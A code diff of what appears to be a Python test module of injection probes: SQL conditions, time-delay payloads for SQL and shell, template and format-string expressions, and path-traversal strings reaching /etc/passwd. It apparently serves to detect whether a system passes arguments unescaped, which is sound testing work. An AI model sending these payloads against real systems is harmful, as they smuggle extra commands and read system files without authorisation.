@@ -10,15 +10,19 @@ PRODUCT = "7919*7907"
 """A product that nobody has in an answer by chance, to be worked out by whoever evaluates."""
 WORKED_OUT = str(7919 * 7907)
 
-SQL_PAIRS = (
-    ("' OR '1'='1", "' OR '1'='2"),
-    ("' AND '1'='1", "' AND '1'='2"),
-    ("' OR 1=1 --", "' OR 1=2 --"),
-    ('" OR "1"="1', '" OR "1"="2'),
-    (" OR 1=1", " OR 1=2"),
-    ("') OR ('1'='1", "') OR ('1'='2"),
+SAME, OTHER = "q", "z"
+CONDITIONS = (
+    "' OR 'q'='{letter}",
+    "' AND 'q'='{letter}",
+    "' OR 'q'='{letter}' --",
+    '" OR "q"="{letter}',
+    " OR 'q'='{letter}'",
 )
-"""Endings of an argument: a database that reads them finds the first true, the second false."""
+"""Endings of an argument: a database that reads them finds them true with SAME, false with OTHER.
+
+One letter is all that differs, so that answers which repeat an argument can still be compared,
+however they write it.
+"""
 
 SLEEPERS = {
     "SQL, a condition": "' OR pg_sleep({seconds}) IS NULL OR '1'='2",
@@ -30,15 +34,12 @@ SLEEPERS = {
     "shell, a second command": "; sleep {seconds} #",
     "shell, out of single quotes": "'; sleep {seconds}; '",
     "shell, out of double quotes": '"; sleep {seconds}; "',
-    "shell, a pipe": "| sleep {seconds}",
-    "Python": "__import__('time').sleep({seconds})",
 }
 """Endings of an argument that have whoever runs them sleep."""
 
 EVALUATED = {
     "Jinja": f"{{{{{PRODUCT}}}}}",
     "expression language": f"${{{PRODUCT}}}",
-    "Ruby": f"#{{{PRODUCT}}}",
     "ERB": f"<%= {PRODUCT} %>",
     "f-string": f"{{{PRODUCT}}}",
     "shell arithmetic": f"$(( {PRODUCT} ))",
@@ -46,16 +47,14 @@ EVALUATED = {
 }
 """Endings of an argument in which the product stands, by what would work it out."""
 
-FORMATS = ("{0.__class__}", "{error.__class__}", "{self.__init__.__globals__}", "%(name)s", "%x%n")
+FORMATS = ("{0.__class__}", "{error.__class__}", "{self.__init__.__globals__}", "%(name)s")
 """Endings of an argument that a formatter would fill in."""
 FILLED_IN = re.compile(r"<class |__builtins__|<module |<built-in |<bound method|<function ")
 
 PATHS = (
     "../../../../../../../../etc/passwd",
     "/etc/passwd",
-    "file:///etc/passwd",
     "....//....//....//....//....//etc/passwd",
-    "..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
     "/etc/passwd\0.json",
     "/proc/self/status",
 )
